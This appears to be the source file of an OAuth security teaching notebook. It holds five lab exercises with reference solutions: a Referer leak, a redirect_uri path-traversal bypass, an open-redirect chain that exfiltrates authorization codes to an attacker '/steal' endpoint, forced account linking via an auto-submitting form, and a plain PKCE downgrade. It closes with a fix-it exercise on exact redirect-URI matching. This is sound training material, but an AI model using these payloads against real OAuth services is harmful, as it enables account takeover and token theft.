"""Notebook 06's exercises: the five labs (q1-q5), each judged from the lab's records, and the fix-it (q6)."""
from __future__ import annotations

from urllib.parse import quote

from ..common import Text, current_lab
from ..exercises import Exercise, _Placeholder
from . import fixit, labs
from .labs import attempt, mallorys_code, photosync, scene
from .stage import mallory_sign_in, params, short, swap


def _checker(number: int):
    def check(answer) -> str | None:
        result = attempt(current_lab(), number, answer)
        return None if result.solved else result.problem
    return check


def _success(number: int):
    def say(answer) -> str:
        result = labs.last_attempt(current_lab(), number)
        return "solved. " + (result.summary() if result else "")
    return say


def _q1_solution():
    lab = current_lab()
    return lab.attacker.serve("/offer", f"<p>Your prints are ready!</p>"
                                        f"<meta http-equiv=refresh content='0;url={lab.web_url}/login'>")


def _q2_solution():
    lab = current_lab()
    return swap(mallory_sign_in(lab), redirect_uri=lab.web_url + "/callback/../prints")


def _q3_solution():
    lab = current_lab()
    tracker = f"{lab.web_url}/callback/../out?to={quote(lab.attacker.url + '/steal', safe='')}"
    return swap(mallory_sign_in(lab), redirect_uri=tracker)


def link_request(lab) -> str:
    """Mallory's own "link your lab account" request, PKCE left out: what the q4 solution signs in with."""
    return swap(mallory_sign_in(lab), redirect_uri=lab.web_url + "/link/callback", scope="profile:read",
                code_challenge=None, code_challenge_method=None)


def _q4_solution():
    lab = current_lab()
    code = mallorys_code(lab, link_request(lab))
    return lab.attacker.serve("/cats", f"<form action='{lab.web_url}/link/callback'>"
                                       f"<input type=hidden name=code value='{code}'>"
                                       "<input type=hidden name=state value=whatever></form>"
                                       "<script>document.forms[0].submit()</script>")


def alice_runs_photosync(lab) -> str:
    """Alice runs ``photosync login`` on her machine, while lab 5's switch is on: where her browser ended up."""
    with scene(lab, 5):
        return short(lab, photosync(lab).login())


def _q5_solution():
    lab = current_lab()
    sync = photosync(lab)
    alice_runs_photosync(lab)
    challenge = params(sync.command_line.split(" ", 1)[1])["code_challenge"]
    return {"code": lab.attacker.last().query["code"], "code_verifier": challenge}


q1 = Exercise(
    "q1 (a code in the Referer)", _checker(1),
    "PhotoPrint's callback page, with referrer_leak on, loads its partner's pixel from your server with the full "
    "URL as Referer. Any navigation that makes Alice's browser sign in at PhotoPrint does it, silently: she "
    "stays signed in at the lab, and she allowed PhotoPrint before. An image will not do (SameSite=Lax).",
    "answer = lab.attacker.serve(\"/offer\", f\"<meta http-equiv=refresh content='0;url={lab.web_url}/login'>\")"
    "\n# (or simply: answer = lab.web_url + \"/login\", a link Alice clicks)",
    _q1_solution, success=_success(1))

q2 = Exercise(
    "q2 (a loose redirect URI)", _checker(2),
    "Start from Mallory's own sign-in request, nb06.mallory_sign_in(lab): PhotoPrint keeps its state and verifier "
    "in his session. With a prefix match, any redirect_uri that starts with PhotoPrint's callback passes, and a "
    "browser resolves '..' in it. Which page of PhotoPrint's leaks what arrives in its URL?",
    "answer = nb06.swap(nb06.mallory_sign_in(lab), redirect_uri=lab.web_url + \"/callback/../prints\")",
    _q2_solution, success=_success(2))

q3 = Exercise(
    "q3 (an open redirect and a loose match)", _checker(3),
    "PhotoPrint's /out?to=URL sends the browser to URL and forwards the other query parameters; the authorization "
    "server adds code and state to the redirect_uri's own query. Percent-encode the value of to inside it "
    "(urllib.parse.quote(..., safe='')).",
    "from urllib.parse import quote\n"
    "tracker = lab.web_url + \"/callback/../out?to=\" + quote(lab.attacker.url + \"/steal\", safe=\"\")\n"
    "answer = nb06.swap(nb06.mallory_sign_in(lab), redirect_uri=tracker)",
    _q3_solution, success=_success(3))

q4 = Exercise(
    "q4 (forced account linking)", _checker(4),
    "Mallory signs in for his own link (redirect_uri .../link/callback, scope profile:read) with PKCE left out "
    "(nb06.swap(..., code_challenge=None, code_challenge_method=None)); nb06.mallorys_code gives you his code. "
    "Then a page that makes Alice's browser navigate (not an image) to PhotoPrint's link callback with it.",
    "request = nb06.swap(nb06.mallory_sign_in(lab), redirect_uri=lab.web_url + \"/link/callback\",\n"
    "                    scope=\"profile:read\", code_challenge=None, code_challenge_method=None)\n"
    "code = nb06.mallorys_code(lab, request)\n"
    "answer = lab.attacker.serve(\"/cats\", f\"<form action='{lab.web_url}/link/callback'>\"\n"
    "    f\"<input type=hidden name=code value='{code}'><input type=hidden name=state value=x></form>\"\n"
    "    \"<script>document.forms[0].submit()</script>\")",
    _q4_solution, success=_success(4))

q5 = Exercise(
    "q5 (the plain PKCE downgrade)", _checker(5),
    "With plain, code_challenge is the verifier itself (RFC 7636 s4.2). The code is in what reached your server, "
    "lab.attacker.last().query; the challenge is on PhotoSync's command line, nb06.ps(lab, sync).",
    "challenge = nb06.params(sync.command_line.split(\" \", 1)[1])[\"code_challenge\"]\n"
    "answer = {\"code\": lab.attacker.last().query[\"code\"], \"code_verifier\": challenge}",
    _q5_solution, success=_success(5))


def _check_matcher(answer) -> str | None:
    if not callable(answer):
        return "answer with your function itself, matches (not matches(...)): def matches(registered, candidate): ..."
    lab = current_lab()
    if isinstance(_call(answer, lab), _Placeholder):
        return "replace ____ in matches with your rule, then run the cell again."
    problem, _, _ = fixit.judge(lab, answer)
    return problem


def _call(matcher, lab):
    try:
        return matcher(lab.store.client("photoprint-web").redirect_uris, lab.web_url + "/callback")
    except Exception:       # noqa: BLE001 - judged (and explained) by fixit.judge
        return None


def _matcher_success(answer) -> str:
    _, refused, passed = fixit.judge(current_lab(), answer)
    return (f"it refuses all {refused} redirect URIs of the attack corpus and lets all {passed} legitimate ones "
            "through: exact string matching, as RFC 9700 s4.1.3 asks.")


def _reference_matcher(registered, candidate):
    return isinstance(candidate, str) and candidate in registered


q6 = Exercise(
    "q6 (fix it: the redirect-URI matcher)", _check_matcher,
    "Every loose rule (a prefix, the same origin, the path without its query, a normalised URL) lets one of the "
    "attacks through. RFC 9700 s4.1.3: compare the redirect_uri with the registered ones as strings.",
    "def matches(registered, candidate):\n"
    "    return isinstance(candidate, str) and candidate in registered      # exact string matching\n\n"
    "answer = matches",
    lambda: _reference_matcher, success=_matcher_success)


# -- the wire, after an attempt ----------------------------------------------------------------------------
def wire(lab, number: int, switch: str = "on"):
    """Lab *number*'s last solved attempt as a sequence diagram: with the switches on, or ``"off"`` (the replay)."""
    result = labs.last_attempt(lab, number)
    span = None if result is None else (result.wire_on if switch == "on" else result.wire_off)
    if span is None:
        return Text(f"(No solved attempt at lab {number} yet: run the check above with your exploit.)")
    spec = labs.LABS[number]
    title = (f"Lab {number}, {spec.title}: " + (f"{', '.join(spec.switches)} on" if switch == "on" else
                                               "the same exploit, switches off"))
    return lab.wiretap.sequence(first=span[0], last=span[1], title=title)
